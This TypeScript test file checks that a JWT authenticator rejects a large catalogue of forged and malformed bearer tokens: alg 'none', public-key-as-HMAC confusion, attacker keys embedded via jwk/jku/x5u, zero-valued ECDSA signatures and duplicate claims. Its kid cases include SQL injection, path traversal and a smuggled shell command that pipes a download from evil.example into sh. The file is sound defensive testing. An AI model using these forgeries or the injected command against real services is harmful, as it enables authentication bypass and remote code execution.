import type { KeyObject } from "node:crypto";
import { createSecretKey, sign as signWith } from "node:crypto";
import { inspect } from "node:util";
import { MemoryClock } from "@punctual/core/memory";
import { expect } from "chai";
import { JwtAuthenticator, Unauthenticated } from "../../src/index.js";
import { KeySource } from "./support/key-source.js";
import {
  AUDIENCE,
  bearer,
  claims,
  encode,
  ISSUER,
  jwk,
  KEYS_URL,
  NOW,
  pairs,
  type Parts,
  SECONDS,
  SECRET,
  signature,
  token,
  tokenOf,
} from "./support/tokens.js";

/** What each is called, and the header `authorization` that it comes in. */
type Attacks = Readonly<Record<string, string | undefined>>;

const { rsa, rsaForPss, rsaWeak, p256, ed25519, attacker } = pairs;
/** Short, because what quotes an input quotes ten letters of it. */
const CANARY = "canary7f";
const SYMMETRIC = "a symmetric key has no business here";

const EVIL = "https://evil.example/keys";
const KEYS = [
  jwk(rsa.publicKey, "rsa"),
  jwk(rsaForPss.publicKey, "rs256-only", { alg: "RS256" }),
  jwk(rsaWeak.publicKey, "weak"),
  jwk(rsa.publicKey, "for-encryption", { use: "enc" }),
  jwk(rsa.publicKey, "odd-use", { use: ["sig"] }),
  jwk(rsa.publicKey, "cannot-verify", { key_ops: ["encrypt"] }),
  jwk(rsa.privateKey, "private"),
  jwk(rsa.publicKey, "twice"),
  jwk(attacker.publicKey, "twice"),
  jwk(p256.publicKey, "p256"),
  jwk(ed25519.publicKey, "ed25519"),
  jwk(createSecretKey(Buffer.from(SYMMETRIC)), "oct"),
  jwk(createSecretKey(Buffer.from(SYMMETRIC)), "oct-as-rs256", { alg: "RS256" }),
  { kid: "nothing-else" },
  null,
  "rsa",
];

const by = (alg: string, kid: string, key: KeyObject | string) => bearer({ alg, kid, key });
const withHeader = (header: Parts["header"], parts: Parts = {}) => bearer({ ...parts, header });
/** A good header but for what is said. */
const header = (changes: object) => withHeader({ alg: "RS256", kid: "rsa", ...changes });
const payload = (changes: object) => bearer({ payload: claims({ sub: CANARY, ...changes }) });
const raw = (text: string | Uint8Array) => bearer({ payload: text });
const rawHeader = (text: string | Uint8Array) => withHeader(text);

const [head = "", body = "", sealed = ""] = token().split(".");
const parts = (...texts: string[]) => `Bearer ${texts.join(".")}`;
const json = JSON.stringify(claims());
const ec = { alg: "ES256", kid: "p256", key: p256.privateKey };
const [ecHead = "", ecBody = ""] = token(ec).split(".");
const ecSealed = (bytes: Uint8Array) => parts(ecHead, ecBody, Buffer.from(bytes).toString("base64url"));
const ecSignature = signature("ES256", `${ecHead}.${ecBody}`, p256.privateKey);
/** The order of the curve: a signature of it and zero is as empty as one of zeros. */
const P256_ORDER = Buffer.from("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", "hex");
const ZERO = Buffer.alloc(32);

function flipped(part: string, at: number): string {
  const bytes = Buffer.from(part, "base64url");
  bytes[at] = (bytes[at] ?? 0) ^ 1;
  return bytes.toString("base64url");
}

/** Of the last letter of 256 bytes in base64url two bits count, and the other four are to be zero. */
function lastLetterChanged(part: string): string {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  return part.slice(0, -1) + (alphabet[alphabet.indexOf(part.slice(-1)) ^ 1] ?? "");
}

const none: Attacks = Object.fromEntries(
  ["none", "None", "NONE", "nOnE", "NonE"].flatMap((alg) => {
    const text = `${encode({ alg, kid: "rsa" })}.${body}`;
    return [
      [`alg ${alg}, without a signature`, `Bearer ${text}.`],
      [`alg ${alg}, with the signature of another`, `Bearer ${text}.${sealed}`],
    ];
  }),
);

const pem = rsa.publicKey.export({ type: "spki", format: "pem" }).toString();
const publicTexts: Readonly<Record<string, string | KeyObject>> = {
  PEM: pem,
  "PEM without its last newline": pem.trim(),
  "PEM of PKCS #1": rsa.publicKey.export({ type: "pkcs1", format: "pem" }).toString(),
  DER: createSecretKey(rsa.publicKey.export({ type: "spki", format: "der" })),
  "DER of PKCS #1": createSecretKey(rsa.publicKey.export({ type: "pkcs1", format: "der" })),
  JWK: JSON.stringify(rsa.publicKey.export({ format: "jwk" })),
  "JWK as published": JSON.stringify(KEYS[0]),
  modulus: String(rsa.publicKey.export({ format: "jwk" }).n),
};
const confused: Attacks = {
  ...Object.fromEntries(
    Object.entries(publicTexts).map(([name, key]) => [`HS256 with the public key as ${name}`, by("HS256", "rsa", key)]),
  ),
  "HS384 with the public key": by("HS384", "rsa", pem),
  "HS512 with the public key": by("HS512", "rsa", pem),
  "HS256 with a published symmetric key": by("HS256", "oct", SYMMETRIC),
  "HS256 with a published symmetric key, called RS256": withHeader(
    { alg: "RS256", kid: "oct-as-rs256" },
    { alg: "HS256", key: SYMMETRIC },
  ),
  "HS256 with the public key, called RS256": withHeader({ alg: "RS256", kid: "rsa" }, { alg: "HS256", key: pem }),
};

const algorithms: Attacks = {
  "no alg": header({ alg: undefined }),
  "an empty alg": header({ alg: "" }),
  "alg in small letters": header({ alg: "rs256" }),
  "alg with a space": header({ alg: "RS256 " }),
  "alg as a list": header({ alg: ["RS256"] }),
  "alg as a number": header({ alg: 256 }),
  "alg null": header({ alg: null }),
  "alg of the prototype": header({ alg: "constructor" }),
  "PS512, which is not on the list": by("PS512", "rsa", rsa.privateKey),
  "RS256 with an EC key": by("RS256", "p256", rsa.privateKey),
  "ES256 with an RSA key": by("ES256", "rsa", p256.privateKey),
  "ES256 with an Ed25519 key": by("ES256", "ed25519", p256.privateKey),
  "EdDSA with an RSA key": by("EdDSA", "rsa", ed25519.privateKey),
  "ES384 with a P-256 key": by("ES384", "p256", p256.privateKey),
  "PS256 with a key for RS256": by("PS256", "rs256-only", rsaForPss.privateKey),
  "RS512 with a key for RS256": by("RS512", "rs256-only", rsaForPss.privateKey),
  "RS384 that says RS256": withHeader({ alg: "RS256", kid: "rsa" }, { alg: "RS384" }),
  "a key of 1024 bits": by("RS256", "weak", rsaWeak.privateKey),
  "a key for encryption": by("RS256", "for-encryption", rsa.privateKey),
  "a key of an odd use": by("RS256", "odd-use", rsa.privateKey),
  "a key that may not verify": by("RS256", "cannot-verify", rsa.privateKey),
  "a key that was published with its private part": by("RS256", "private", rsa.privateKey),
  "a key without a type": by("RS256", "nothing-else", rsa.privateKey),
  "one of two keys of one id": by("RS256", "twice", rsa.privateKey),
  "the key of somebody else": by("RS256", "rsa", attacker.privateKey),
};

const kids: Attacks = Object.fromEntries(
  Object.entries({
    missing: undefined,
    empty: "",
    "a path": "../../x",
    "a device": "../../../../../../dev/null",
    "a good one with a path": "./rsa",
    SQL: "rsa' UNION SELECT 'key' --",
    "a command": "rsa; curl evil.example | sh",
    "a URL": EVIL,
    "a file URL": "file:///dev/null",
    "the URL of the keys": KEYS_URL,
    huge: "k".repeat(3_000),
    "in capitals": "RSA",
    "with a space": "rsa ",
    "with NUL": "rsa\0",
    "of the prototype": "__proto__",
    "a number": 0,
    null: null,
    "a list": ["rsa"],
    "an object": { kid: "rsa" },
  }).flatMap(([name, kid]) => [
    [`kid ${name}`, header({ kid })],
    [`kid ${name}, with an empty secret`, withHeader({ alg: "HS256", kid }, { alg: "HS256", key: "" })],
  ]),
);

const evilKey = jwk(attacker.publicKey, "rsa");
const embedded: Attacks = Object.fromEntries(
  Object.entries({
    jwk: evilKey,
    jku: EVIL,
    x5u: EVIL,
    x5c: [attacker.publicKey.export({ type: "spki", format: "der" }).toString("base64")],
    keys: [evilKey],
  }).flatMap(([name, value]) =>
    ["rsa", "evil", undefined].map((kid) => [
      `its own key in ${name}, kid ${kid ?? "missing"}`,
      withHeader({ alg: "RS256", kid, [name]: value }, { key: attacker.privateKey }),
    ]),
  ),
);

const times: Attacks = {
  "expired a minute ago": payload({ exp: SECONDS - 60 }),
  "expired a year ago": payload({ exp: SECONDS - 31_536_000 }),
  "expired by half a second": payload({ exp: SECONDS - 60.5 }),
  "exp missing": payload({ exp: undefined }),
  "exp null": payload({ exp: null }),
  "exp as text": payload({ exp: String(SECONDS + 300) }),
  "exp as a date": payload({ exp: "2031-01-01T00:00:00Z" }),
  "exp as a list": payload({ exp: [SECONDS + 300] }),
  "exp true": payload({ exp: true }),
  "exp in milliseconds": payload({ exp: NOW.getTime() }),
  "exp beyond all time": payload({ exp: 1e300 }),
  "exp infinite": raw(json.replace(/"exp":\d+/, '"exp":1e999')),
  "exp negative": payload({ exp: -1 }),
  "not yet valid": payload({ nbf: SECONDS + 61 }),
  "valid in a year": payload({ nbf: SECONDS + 31_536_000, exp: SECONDS + 63_072_000 }),
  "nbf as text": payload({ nbf: String(SECONDS) }),
  "nbf null": payload({ nbf: null }),
  "nbf in milliseconds": payload({ nbf: NOW.getTime() }),
};

const parties: Attacks = {
  "another audience": payload({ aud: "other" }),
  "no audience": payload({ aud: undefined }),
  "audience null": payload({ aud: null }),
  "an empty audience": payload({ aud: "" }),
  "an empty list of audiences": payload({ aud: [] }),
  "a list of other audiences": payload({ aud: ["other", "another"] }),
  "an audience in a list in a list": payload({ aud: [[AUDIENCE]] }),
  "an audience among numbers": payload({ aud: [AUDIENCE, 7] }),
  "an audience as an object": payload({ aud: { [AUDIENCE]: true } }),
  "an audience that begins with ours": payload({ aud: `${AUDIENCE}-admin` }),
  "an audience that ours begins with": payload({ aud: AUDIENCE.slice(0, -1) }),
  "an audience in capitals": payload({ aud: AUDIENCE.toUpperCase() }),
  "another issuer": payload({ iss: "https://evil.example/" }),
  "no issuer": payload({ iss: undefined }),
  "issuer null": payload({ iss: null }),
  "an issuer in a list": payload({ iss: [ISSUER] }),
  "an issuer without its slash": payload({ iss: ISSUER.slice(0, -1) }),
  "an issuer with a path": payload({ iss: `${ISSUER}x` }),
};

const persons: Attacks = {
  "sub missing": payload({ sub: undefined }),
  "sub empty": payload({ sub: "" }),
  "sub null": payload({ sub: null }),
  "sub a number": payload({ sub: 7 }),
  "sub of 256 characters": payload({ sub: "s".repeat(256) }),
  "sub with a line break": payload({ sub: "ada\nadmin" }),
  "sub with NUL": payload({ sub: "ada\0" }),
  "sub that turns the writing round": payload({ sub: "ada\u202e" }),
  "sub with a line separator": payload({ sub: "ada\u2028" }),
  "sub with half a character": raw(json.replace('"ada"', String.raw`"ada\ud800"`)),
  "tenant missing": payload({ tenant: undefined }),
  "tenant empty": payload({ tenant: "" }),
  "tenant null": payload({ tenant: null }),
  "tenant a number": payload({ tenant: 7 }),
  "tenant a list": payload({ tenant: ["acme"] }),
  "tenant of 65 characters": payload({ tenant: "t".repeat(65) }),
  "tenant with a slash": payload({ tenant: "acme/../initech" }),
  "tenant with a line break": payload({ tenant: "acme\n" }),
  "tenant with an umlaut": payload({ tenant: "äcme" }),
  "roles missing": payload({ roles: undefined }),
  "roles empty": payload({ roles: [] }),
  "roles unknown": payload({ roles: ["owner", "root"] }),
  "roles null": payload({ roles: null }),
  "roles with a number among them": payload({ roles: ["admin", 1] }),
  "roles in a list in a list": payload({ roles: [["admin"]] }),
  "roles as an object": payload({ roles: { admin: true } }),
  "roles in one text": payload({ roles: "admin user" }),
  "a role in capitals": payload({ roles: "Admin" }),
  "a role that ends like one": payload({ roles: "superadmin" }),
};

const forms: Attacks = {
  "one part": parts(head),
  "two parts": parts(head, body),
  "four parts": parts(head, body, sealed, sealed),
  "two parts and an empty one": parts(head, body, ""),
  "no header": parts("", body, sealed),
  "no payload": parts(head, "", sealed),
  "dots alone": "Bearer ..",
  truncated: `Bearer ${token().slice(0, -10)}`,
  "a signature without its first letter": parts(head, body, sealed.slice(1)),
  "padding after the header": parts(`${head}=`, body, sealed),
  "padding after the payload": parts(head, `${body}=`, sealed),
  "padding after the signature": parts(head, body, `${sealed}==`),
  "a signature in Base64": parts(head, body, `${sealed.slice(0, -1)}+`),
  "a slash in the signature": parts(head, body, `/${sealed.slice(1)}`),
  "a star in the payload": parts(head, `*${body}`, sealed),
  "a space in the signature": parts(head, body, `${sealed.slice(0, 9)} ${sealed.slice(9)}`),
  "a line break after the token": `${bearer()}\n`,
  "NUL after the token": `${bearer()}\0`,
  "another last letter of the same signature": parts(head, body, lastLetterChanged(sealed)),
  "a letter too many": parts(head, body, `${sealed}AAA`),
  "a signature of zeros": parts(head, body, Buffer.alloc(256).toString("base64url")),
  "a bit flipped in the header": parts(flipped(head, 20), body, sealed),
  "a bit flipped in the payload": parts(head, flipped(body, 50), sealed),
  "a bit flipped in the signature": parts(head, body, flipped(sealed, 100)),
  "the signature of another token": parts(head, encode(claims({ roles: "admin" })), sealed),
  "header and payload in the wrong order": parts(body, head, sealed),
  "a JWE": parts(encode({ alg: "RSA-OAEP", enc: "A256GCM", kid: "rsa" }), "a2V5", "aXY", "dGV4dA", "dGFn"),
  "a JWE of three parts": header({ alg: "RSA-OAEP", enc: "A256GCM" }),
  "a JWS as JSON": `Bearer ${JSON.stringify({ protected: head, payload: body, signature: sealed })}`,
  "hardly more than 8 KiB": `Bearer ${tokenOf(8193)}`,
  "9 KiB": payload({ padding: "x".repeat(6_600) }),
  "a megabyte": `Bearer ${"a".repeat(1 << 20)}`,
  "a megabyte of dots": `Bearer ${".".repeat(1 << 20)}`,
};

const ecdsa: Attacks = {
  "ECDSA with r and s zero": ecSealed(Buffer.concat([ZERO, ZERO])),
  "ECDSA with r zero": ecSealed(Buffer.concat([ZERO, ecSignature.subarray(32)])),
  "ECDSA with s zero": ecSealed(Buffer.concat([ecSignature.subarray(0, 32), ZERO])),
  "ECDSA with r and s the order": ecSealed(Buffer.concat([P256_ORDER, P256_ORDER])),
  "ECDSA with r the order and s zero": ecSealed(Buffer.concat([P256_ORDER, ZERO])),
  "ECDSA in DER": ecSealed(signWith("sha256", Buffer.from(`${ecHead}.${ecBody}`), p256.privateKey)),
  "ECDSA with r and s zero in DER": ecSealed(Buffer.from("3006020100020100", "hex")),
  "ECDSA with r and s in the wrong order": ecSealed(
    Buffer.concat([ecSignature.subarray(32), ecSignature.subarray(0, 32)]),
  ),
  "ECDSA with a zero before": ecSealed(Buffer.concat([Buffer.alloc(1), ecSignature])),
  "ECDSA with a zero behind": ecSealed(Buffer.concat([ecSignature, Buffer.alloc(1)])),
  "half an ECDSA signature": ecSealed(ecSignature.subarray(0, 32)),
  "EdDSA with a signature of zeros": parts(
    encode({ alg: "EdDSA", kid: "ed25519" }),
    body,
    Buffer.alloc(64).toString("base64url"),
  ),
};

const texts: Attacks = {
  "a claim twice": raw(json.replace("{", '{"roles":"admin",')),
  "a claim twice, the same": raw(json.replace("{", '{"sub":"ada",')),
  "a claim twice, once with an escape": raw(json.replace("{", String.raw`{"s\u0075b":"root",`)),
  "a claim twice, with space before the colon": raw(json.replace("{", '{"sub" \n:"root",')),
  "a claim twice, further in": raw(json.replace("{", '{"a":[{"b":1,"c":{},"b":2}],')),
  "alg twice": rawHeader('{"alg":"none","alg":"RS256","kid":"rsa"}'),
  "kid twice": rawHeader('{"alg":"RS256","kid":"evil","kid":"rsa"}'),
  "a payload that is a list": raw(`[${json}]`),
  "a payload that is text": raw(JSON.stringify(json)),
  "a payload that is a number": raw("7"),
  "a payload that is null": raw("null"),
  "a payload that is not JSON": raw(`${CANARY} ${json}`),
  "a payload with something behind": raw(`${json}{}`),
  "a payload cut off": raw(json.slice(0, -1)),
  "a payload with a comment": raw(json.replace("{", "{/**/")),
  "a payload in Latin-1": raw(Buffer.from(json.replace("ada", "Zoë"), "latin1")),
  "a payload in UTF-16": raw(Buffer.from(json, "utf16le")),
  "a payload in UTF-8 that is too long": raw(
    Buffer.concat([Buffer.from(json.slice(0, -1)), Buffer.from([0xc0, 0x80, 0x7d])]),
  ),
  "brackets without end": raw(`${'{"a":['.repeat(800)}`),
  "a header that is a list": rawHeader('["RS256"]'),
  "a header that is null": rawHeader("null"),
  "a header that is not JSON": rawHeader("alg=RS256"),
  "a header that is not UTF-8": rawHeader(Buffer.from('{"alg":"RS256","kid":"rsa","x":"\xff"}', "latin1")),
};

const extensions: Attacks = {
  "crit with a name that nobody knows": header({ crit: ["http://example.com/x"], "http://example.com/x": 1 }),
  "crit with a claim": header({ crit: ["exp"], exp: 1 }),
  "crit empty": header({ crit: [] }),
  "crit null": header({ crit: null }),
  "crit as text": header({ crit: "b64" }),
  "b64 false": header({ b64: false }),
  "b64 false and critical": header({ crit: ["b64"], b64: false }),
  "b64 true and critical": header({ crit: ["b64"], b64: true }),
  "another typ": header({ typ: "dpop+jwt" }),
  "an id token's logout": header({ typ: "logout+jwt" }),
  "typ with more behind": header({ typ: "JWTx" }),
  "an empty typ": header({ typ: "" }),
  "typ null": header({ typ: null }),
  "typ as a list": header({ typ: ["JWT"] }),
};

const schemes: Attacks = {
  "no header": undefined,
  "an empty header": "",
  "the scheme alone": "Bearer",
  "the scheme and a space": "Bearer ",
  "the token alone": token(),
  "two spaces": `Bearer  ${token()}`,
  "a tab": `Bearer\t${token()}`,
  "a no-break space": `Bearer\u00a0${token()}`,
  "a space before": ` ${bearer()}`,
  "a space behind": `${bearer()} `,
  "a comma behind": `${bearer()},`,
  "two tokens": `${bearer()} ${token()}`,
  "two tokens with a comma": `${bearer()}, ${token()}`,
  "two headers in one": `${bearer()}, ${bearer()}`,
  "the scheme twice": `Bearer ${bearer()}`,
  "a colon": `Bearer: ${token()}`,
  quotes: `Bearer "${token()}"`,
  "a parameter": `Bearer token=${token()}`,
  Basic: `Basic ${token()}`,
  DPoP: `DPoP ${token()}`,
  JWT: `JWT ${token()}`,
  "a scheme that ends like ours": `XBearer ${token()}`,
  "a scheme with a letter of another script": `Be\u0430rer ${token()}`,
};

const hs = (alg: string, key: string) => bearer({ alg, key });
const againstSecret: Attacks = {
  "the wrong secret": hs("HS256", `${SECRET}.`),
  "no secret": hs("HS256", ""),
  "the secret without its last letter": hs("HS256", SECRET.slice(0, -1)),
  "HS384 with the secret": hs("HS384", SECRET),
  "HS512 with the secret": hs("HS512", SECRET),
  "HS512 with the secret that says HS256": withHeader({ alg: "HS256" }, { alg: "HS512", key: SECRET }),
  "RS256 with a key of its own": header({ jwk: jwk(rsa.publicKey, "rsa") }),
  "alg none": `Bearer ${encode({ alg: "none" })}.${body}.`,
  "a hash cut to half": hs("HS256", SECRET).slice(0, -21),
  "a hash of zeros": `Bearer ${encode({ alg: "HS256" })}.${body}.${Buffer.alloc(32).toString("base64url")}`,
  expired: bearer({ alg: "HS256", key: SECRET, payload: claims({ exp: SECONDS - 60 }) }),
  "another audience": bearer({ alg: "HS256", key: SECRET, payload: claims({ aud: "other" }) }),
  "another issuer": bearer({ alg: "HS256", key: SECRET, payload: claims({ iss: "other" }) }),
};

describe("a token that is not good", () => {
  const source = new KeySource(KEYS);
  const common = { issuer: ISSUER, audience: AUDIENCE, clock: new MemoryClock(NOW), fetch: source.fetch };
  const withKeys = new JwtAuthenticator({ ...common, keys: { kind: "jwks", url: KEYS_URL } });
  const withSecret = new JwtAuthenticator({ ...common, keys: { kind: "secret", secret: SECRET } });

  before("the same tokens unharmed are good", async () => {
    for (const one of [
      bearer(),
      bearer(ec),
      payload({}),
      header({}),
      raw(json),
      by("RS256", "rs256-only", rsaForPss.privateKey),
    ])
      await withKeys.authenticate(one);
    for (const one of [hs("HS256", SECRET), withHeader({ alg: "HS256" }, { alg: "HS256", key: SECRET })])
      await withSecret.authenticate(one);
  });

  const refusesAll = (authenticator: JwtAuthenticator, kind: string, attacks: Attacks) => {
    describe(kind, () => {
      for (const [name, authorization] of Object.entries(attacks)) {
        it(name, async () => {
          const error: unknown = await authenticator.authenticate(authorization).catch((thrown: unknown) => thrown);

          expect((error as object).constructor).to.equal(Unauthenticated);
          const { message, cause } = error as Unauthenticated;
          expect(message).to.equal("A valid bearer token is required");
          expect(cause).to.be.instanceOf(Error);
          // The cause ends in a log, where nothing of a token and no claim has any business.
          const logged = inspect(error, { depth: 9, showHidden: true });
          for (const part of [
            CANARY,
            SECRET,
            ...(authorization ?? "").split(/[ .]/).filter((one) => one.length > 20),
          ]) {
            expect(logged).not.to.contain(part);
          }
        });
      }
    });
  };
  refusesAll(withKeys, "without a signature", none);
  refusesAll(withKeys, "with the public key as a secret", confused);
  refusesAll(withKeys, "with another algorithm or key", algorithms);
  refusesAll(withKeys, "with an id of a key that is more than an id", kids);
  refusesAll(withKeys, "that brings its own key", embedded);
  refusesAll(withKeys, "out of its time", times);
  refusesAll(withKeys, "from or for somebody else", parties);
  refusesAll(withKeys, "for nobody", persons);
  refusesAll(withKeys, "out of form", forms);
  refusesAll(withKeys, "with an odd signature on a curve", ecdsa);
  refusesAll(withKeys, "with odd JSON", texts);
  refusesAll(withKeys, "with extensions", extensions);
  refusesAll(withKeys, "in an odd header", schemes);
  refusesAll(withSecret, "where a secret is shared", againstSecret);

  after("none of them had anybody asked, but for the keys once", () => {
    expect(source.asked).to.deep.equal([KEYS_URL]);
  });
});
